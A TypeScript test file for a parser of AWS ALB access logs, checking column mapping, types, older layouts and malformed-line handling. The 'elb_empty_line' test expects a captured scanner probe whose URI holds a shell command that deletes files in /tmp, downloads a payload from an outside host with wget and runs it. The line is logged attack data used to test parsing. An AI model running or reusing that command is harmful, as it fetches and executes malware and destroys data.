import { gzipSync } from 'node:zlib';
import { TRAILING_FIELDS_KEY } from '../../../lambda/formats/access-log-fields';
import { ADDITIONAL_FIELDS_COLUMN } from '../../../lambda/formats/additional-fields';
import { ALB_FIELD_COLUMNS, albFormat } from '../../../lambda/formats/alb';
import { AWS_ALB_ACCESS_LOGS } from '../../../lambda/formats/builtin-tables';
import { PROVENANCE_COLUMNS, type ColumnType } from '../../../lambda/formats/schema';
import { ALB_SAMPLE_HTTPS_COLUMNS } from '../../support/alb-sample';
import { countKinds, fixture, malformedOf, objectRef, parseAll, rowsOf } from './helpers';

/** Every field of an ALB entry in AWS's documented order, with a value as ALB writes it. */
const FIELDS: readonly (readonly [field: string, written: string])[] = [
  ['type', 'h2'],
  ['time', '2025-06-01T10:00:00.123456Z'],
  ['elb', 'app/my-loadbalancer/50dc6c495c0c9188'],
  ['client:port', '192.168.131.39:2817'],
  ['target:port', '10.0.0.1:80'],
  ['request_processing_time', '0.001'],
  ['target_processing_time', '0.020'],
  ['response_processing_time', '0.000'],
  ['elb_status_code', '200'],
  ['target_status_code', '200'],
  ['received_bytes', '5000000000'],
  ['sent_bytes', '366'],
  ['request', '"GET https://www.example.com:443/a?b=1 HTTP/2.0"'],
  ['user_agent', '"Mozilla/5.0 (X11; Linux x86_64)"'],
  ['ssl_cipher', 'ECDHE-RSA-AES128-GCM-SHA256'],
  ['ssl_protocol', 'TLSv1.2'],
  [
    'target_group_arn',
    'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067',
  ],
  ['trace_id', '"Root=1-58337262-36d228ad5d99923122bbe354"'],
  ['domain_name', '"www.example.com"'],
  [
    'chosen_cert_arn',
    '"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"',
  ],
  ['matched_rule_priority', '5'],
  ['request_creation_time', '2025-06-01T10:00:00.100000Z'],
  ['actions_executed', '"waf,forward"'],
  ['redirect_url', '"https://www.example.com/"'],
  ['error_reason', '"LambdaInvalidResponse"'],
  ['target:port_list', '"10.0.0.1:80 10.0.0.2:80"'],
  ['target_status_code_list', '"200 500"'],
  ['classification', '"Ambiguous"'],
  ['classification_reason', '"UndefinedContentLengthSemantics"'],
  ['conn_trace_id', 'TID_1234abcd5678ef90'],
  ['transformed_host', '"internal.example.com"'],
  ['transformed_uri', '"/v2/a?b=1"'],
  ['request_transform_status', '"rewrite-success"'],
];

/** The row's record columns for the entry above, written out by hand from the mapping. */
const EXPECTED: Readonly<Record<string, unknown>> = {
  ALBType: 'h2',
  TimeGenerated: '2025-06-01T10:00:00.123456Z',
  Alb: 'app/my-loadbalancer/50dc6c495c0c9188',
  ClientIp: '192.168.131.39',
  ClientPort: 2817,
  TargetIp: '10.0.0.1',
  TargetPort: 80,
  RequestProcessingTime: '0.001',
  TargetProcessingTime: '0.020',
  ResponseProcessingTime: '0.000',
  ElbStatusCode: 200,
  TargetStatusCode: '200',
  ReceivedBytes: 5000000000,
  SentBytes: 366,
  RequestRaw: 'GET https://www.example.com:443/a?b=1 HTTP/2.0',
  UserAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
  SslCipher: 'ECDHE-RSA-AES128-GCM-SHA256',
  SslProtocol: 'TLSv1.2',
  TargetGroupArn:
    'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067',
  TraceId: 'Root=1-58337262-36d228ad5d99923122bbe354',
  DomainName: 'www.example.com',
  ChosenCertArn: 'arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012',
  MatchedRulePriority: '5',
  RequestCreationTime: '2025-06-01T10:00:00.100000Z',
  ActionsExecuted: 'waf,forward',
  RedirectUrl: 'https://www.example.com/',
  LambdaErrorReason: 'LambdaInvalidResponse',
  TargetPortList: '10.0.0.1:80 10.0.0.2:80',
  TargetStatusCodeList: '200 500',
  Classification: 'Ambiguous',
  ClassificationReason: 'UndefinedContentLengthSemantics',
  ConnTraceId: 'TID_1234abcd5678ef90',
  [ADDITIONAL_FIELDS_COLUMN]: JSON.stringify({
    transformed_host: 'internal.example.com',
    transformed_uri: '/v2/a?b=1',
    request_transform_status: 'rewrite-success',
  }),
};

/** The provenance columns other than TimeGenerated, which `time` fills. */
const PROVENANCE = new Set(PROVENANCE_COLUMNS.map((c) => c.name).filter((n) => n !== 'TimeGenerated'));

function recordColumns(row: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(row).filter(([name]) => !PROVENANCE.has(name)));
}

/** An entry of the first `count` fields, with `overrides` (by field name) as written. */
function entry(count = FIELDS.length, overrides: Record<string, string> = {}): string {
  return FIELDS.slice(0, count)
    .map(([field, written]) => overrides[field] ?? written)
    .join(' ');
}

async function rowOf(text: string): Promise<Record<string, unknown>> {
  const outcomes = await parseAll('alb', text);
  expect(malformedOf(outcomes)).toStrictEqual([]);
  const rows = rowsOf(outcomes);
  expect(rows).toHaveLength(1);
  return recordColumns(rows[0]);
}

function fitsType(value: unknown, type: ColumnType): boolean {
  switch (type) {
    case 'string':
      return typeof value === 'string';
    case 'int':
      return Number.isInteger(value) && (value as number) >= -(2 ** 31) && (value as number) < 2 ** 31;
    case 'long':
      return Number.isSafeInteger(value);
    case 'datetime':
      return typeof value === 'string' && !Number.isNaN(Date.parse(value)) && value.endsWith('Z');
    default:
      return false;
  }
}

describe('alb format', () => {
  describe('declared columns', () => {
    const table = new Map(AWS_ALB_ACCESS_LOGS.columns.map((c) => [c.name, c]));
    const declared = albFormat.columns.filter((c) => c.name !== ADDITIONAL_FIELDS_COLUMN);

    test('write to AWSALBAccessLogs', () => {
      expect(albFormat.builtinTable).toBe(AWS_ALB_ACCESS_LOGS);
    });

    test('are AWSALBAccessLogs columns, with the vendored names, types and descriptions', () => {
      for (const column of declared) expect(column).toStrictEqual(table.get(column.name));
    });

    test('are every AWSALBAccessLogs column but TimeGenerated, which the provenance columns declare', () => {
      const expected = AWS_ALB_ACCESS_LOGS.columns.map((c) => c.name).filter((n) => n !== 'TimeGenerated');
      expect(declared.map((c) => c.name).sort()).toStrictEqual(expected.sort());
    });

    test('end with AdditionalFields_CF, a string column, and include no system column', () => {
      expect(albFormat.columns.at(-1)).toMatchObject({ name: ADDITIONAL_FIELDS_COLUMN, type: 'string' });
      const system = new Set(AWS_ALB_ACCESS_LOGS.systemColumns.map((c) => c.name));
      expect(albFormat.columns.filter((c) => system.has(c.name))).toStrictEqual([]);
    });

    test('map the documented fields in order, the three 2025 fields to no column', () => {
      expect([...ALB_FIELD_COLUMNS.keys()]).toStrictEqual(FIELDS.map(([f]) => f));
      expect(ALB_FIELD_COLUMNS.get('time')).toStrictEqual(['TimeGenerated']);
      expect(ALB_FIELD_COLUMNS.get('error_reason')).toStrictEqual(['LambdaErrorReason']);
      for (const field of ['transformed_host', 'transformed_uri', 'request_transform_status']) {
        expect(ALB_FIELD_COLUMNS.get(field)).toStrictEqual([]);
      }
    });
  });

  test('maps an entry of every documented field, each value in its column', async () => {
    expect(await rowOf(entry())).toStrictEqual(EXPECTED);
  });

  test('every value has its column type, as AWSALBAccessLogs types it', async () => {
    const row = await rowOf(entry());
    const table = new Map(AWS_ALB_ACCESS_LOGS.columns.map((c) => [c.name, c.type]));
    for (const [name, value] of Object.entries(row)) {
      const type = name === ADDITIONAL_FIELDS_COLUMN ? 'string' : table.get(name);
      expect([name, type !== undefined && fitsType(value, type)]).toStrictEqual([name, true]);
    }
  });

  describe('layouts AWS has written over the years', () => {
    test.each([
      [29, 'before conn_trace_id (2024)'],
      [30, 'with conn_trace_id'],
      [31, 'with the first of the 2025 fields'],
    ])('%i fields (%s) fill the columns they have, no more', async (count) => {
      const row = await rowOf(entry(count));
      const present = new Set(FIELDS.slice(0, count).flatMap(([f]) => ALB_FIELD_COLUMNS.get(f) ?? []));
      const expected = Object.fromEntries(Object.entries(EXPECTED).filter(([c]) => present.has(c)));
      if (count > 30) expected[ADDITIONAL_FIELDS_COLUMN] = '{"transformed_host":"internal.example.com"}';
      expect(row).toStrictEqual(expected);
    });

    test('fields appended after request_transform_status go to AdditionalFields_CF, as written, by position', async () => {
      const row = await rowOf(`${entry()} "future value" 42 -`);
      expect(JSON.parse(row[ADDITIONAL_FIELDS_COLUMN] as string)).toStrictEqual({
        transformed_host: 'internal.example.com',
        transformed_uri: '/v2/a?b=1',
        request_transform_status: 'rewrite-success',
        [TRAILING_FIELDS_KEY]: ['"future value"', '42', '-'],
      });
    });
  });

  describe('the samples', () => {
    test('alb_al_valid_logs: an https entry and one with bracketed IPv6 addresses', async () => {
      const rows = rowsOf(await parseAll('alb', fixture('alb/alb_al_valid_logs.log'))).map(recordColumns);
      expect(rows).toHaveLength(2);
      expect(rows[0]).toStrictEqual({
        TimeGenerated: '2018-07-02T22:23:00.186641Z',
        ...ALB_SAMPLE_HTTPS_COLUMNS,
      });
      expect(rows[1]).toStrictEqual({
        ...rows[0],
        ClientIp: 'fe80::202:b3ff:fe1e:8329',
        ClientPort: 443,
        TargetIp: '2001:db8::1',
        TargetPort: 80,
      });
    });

    test('elb_empty_line: the scanner probe keeps -1 timings, the space in its URI and its classification', async () => {
      // GIVEN two 29-field entries around a blank line (line 2)
      const outcomes = await parseAll('alb', fixture('alb/elb_empty_line.log'));
      // THEN line numbers count the blank line, and the probe's no-target fields are absent
      expect(outcomes.map((o) => (o.kind === 'row' ? o.row.RecordIndex : o.kind))).toStrictEqual([0, 1]);
      const [, probe] = rowsOf(outcomes).map(recordColumns);
      expect(probe).toStrictEqual({
        ALBType: 'http',
        TimeGenerated: '2022-05-12T06:41:29.051646Z',
        Alb: 'app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e',
        ClientIp: '67.43.156.20',
        ClientPort: 41542,
        RequestProcessingTime: '-1',
        TargetProcessingTime: '-1',
        ResponseProcessingTime: '-1',
        ElbStatusCode: 301,
        ReceivedBytes: 233,
        SentBytes: 390,
        RequestRaw:
          'GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1',
        UserAgent: 'Hello, world',
        TraceId: 'Root=1-627cac19-4c6df30820daa80e3fd72ced',
        MatchedRulePriority: '0',
        RequestCreationTime: '2022-05-12T06:41:29.051000Z',
        ActionsExecuted: 'redirect',
        RedirectUrl: 'https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
        Classification: 'Acceptable',
        ClassificationReason: 'SpaceInUri',
      });
    });

    test.each([
      ['alb/alb_al_valid_logs.log', { row: 2 }],
      ['alb/elb_empty_line.log', { row: 2 }],
      ['alb/elb_control.log', { 'skipped-object': 1 }],
      ['alb/alb_al_invalid_syntax.log', { malformed: 1 }],
      ['alb/alb_al_insufficient_fields.log', { malformed: 1 }],
    ])('%s: exact counts, plain and gzipped', async (path, expected) => {
      const object = objectRef({ key: `AWSLogs/123456789012/elasticloadbalancing/us-east-2/${path}.gz` });
      const plain = await parseAll('alb', fixture(path), object);
      expect(countKinds(plain)).toStrictEqual(expected);
      expect(await parseAll('alb', gzipSync(fixture(path)), object)).toStrictEqual(plain);
    });
  });

  describe('"-" (no value)', () => {
    test('is omitted, quoted or not, in every kind of column', async () => {
      const dashes: Record<string, string> = {};
      for (const [field, written] of FIELDS.slice(1)) dashes[field] = written.startsWith('"') ? '"-"' : '-';
      const row = await rowOf(entry(FIELDS.length, dashes));
      // THEN only the type is left, and TimeGenerated is the S3 event time
      expect(row).toStrictEqual({ ALBType: 'h2', TimeGenerated: objectRef().eventTime });
    });
  });

  test('an integer its column cannot hold is kept as written in AdditionalFields_CF', async () => {
    const row = await rowOf(entry(29, { sent_bytes: '9007199254740993', elb_status_code: '2147483648' }));
    expect(row).not.toHaveProperty('SentBytes');
    expect(row).not.toHaveProperty('ElbStatusCode');
    expect(JSON.parse(row[ADDITIONAL_FIELDS_COLUMN] as string)).toStrictEqual({
      elb_status_code: '2147483648',
      sent_bytes: '9007199254740993',
    });
  });

  describe('malformed lines', () => {
    test('the samples name the line and what is missing or wrong', async () => {
      expect(await parseAll('alb', fixture('alb/alb_al_insufficient_fields.log'))).toStrictEqual([
        {
          kind: 'malformed',
          lineNumber: 1,
          index: 0,
          reason:
            "3 fields where ALB access log entries have at least 29: client:port to classification_reason missing (check that the object holds ALB access logs, which the producer's format 'alb' reads)",
        },
      ]);
      expect(await parseAll('alb', fixture('alb/alb_al_invalid_syntax.log'))).toStrictEqual([
        {
          kind: 'malformed',
          lineNumber: 1,
          index: 0,
          reason:
            'field 1 (type) is not one of http, https, h2, grpcs, ws, wss (is the object an ALB access log?)',
        },
      ]);
    });

    test('28 fields: the one missing field is named', async () => {
      const [outcome] = malformedOf(await parseAll('alb', entry(28)));
      expect(outcome.reason).toMatch(
        /^28 fields where ALB access log entries have at least 29: classification_reason missing/,
      );
    });

    test.each([
      ['time', 'yesterday', 'field 2 (time) is not an ISO 8601 time'],
      ['time', '2025-02-30T10:00:00Z', 'field 2 (time) is not an ISO 8601 time'],
      ['client:port', '192.168.131.39', 'field 4 (client:port) is not an IP address and port'],
      ['target:port', '10.0.0.1:99999', 'field 5 (target:port) is not an IP address and port'],
      ['request_processing_time', 'fast', 'field 6 (request_processing_time) is not a number'],
      ['elb_status_code', '2OO', 'field 9 (elb_status_code) is not an integer'],
      ['received_bytes', '1e3', 'field 11 (received_bytes) is not an integer'],
      ['matched_rule_priority', 'first', 'field 21 (matched_rule_priority) is not an integer'],
      ['request_creation_time', 'soon', 'field 22 (request_creation_time) is not an ISO 8601 time'],
      ['request_transform_status', '"rewrite-success', 'field 33 opens a quote that is never closed'],
      // A quote closed late shifts every later field: the checked fields catch it.
      ['request', '"GET / HTTP/1.1', 'field 21 (matched_rule_priority) is not an integer'],
    ])(
      '%s %j is isolated between good lines, with a reason that never quotes it',
      async (field, value, reason) => {
        // GIVEN a bad line between two good ones
        const outcomes = await parseAll(
          'alb',
          [entry(), entry(FIELDS.length, { [field]: value }), entry()].join('\n'),
        );
        // THEN only it is reported, with its line number
        expect(malformedOf(outcomes)).toStrictEqual([{ kind: 'malformed', lineNumber: 2, index: 1, reason }]);
        expect(rowsOf(outcomes)).toHaveLength(2);
        expect(reason).not.toContain(value);
      },
    );

    test('a test message past the first line is not an access log entry', async () => {
      const control = fixture('alb/elb_control.log').toString();
      const outcomes = await parseAll('alb', `${entry()}\n${control}\n`);
      expect(countKinds(outcomes)).toStrictEqual({ row: 1, malformed: 1 });
    });
  });

  test('a continuation skips the records already delivered, malformed and blank lines as before', async () => {
    // GIVEN an object of a good line, a bad one, a blank line, then two good ones
    const text = [entry(), entry(3), '', entry(30), entry(29)].join('\n');
    const all = await parseAll('alb', text);
    // WHEN read again after 2 records
    const rest = await parseAll('alb', text, objectRef(), { skipRecords: 2 });
    // THEN the same records follow, with the same indexes and line numbers
    expect(rest).toStrictEqual(all.slice(2));
    expect(rest.map((o) => (o.kind === 'row' ? o.row.RecordIndex : o.kind))).toStrictEqual([2, 3]);
    expect(malformedOf(all).map((m) => m.lineNumber)).toStrictEqual([2]);
  });

  test('reads the same whatever the chunking, one byte at a time included', async () => {
    const data = Buffer.concat([
      fixture('alb/alb_al_valid_logs.log'),
      Buffer.from('\n'),
      fixture('alb/elb_empty_line.log'),
    ]);
    expect(await parseAll('alb', data, objectRef(), { chunkSize: 1 })).toStrictEqual(
      await parseAll('alb', data),
    );
  });
});
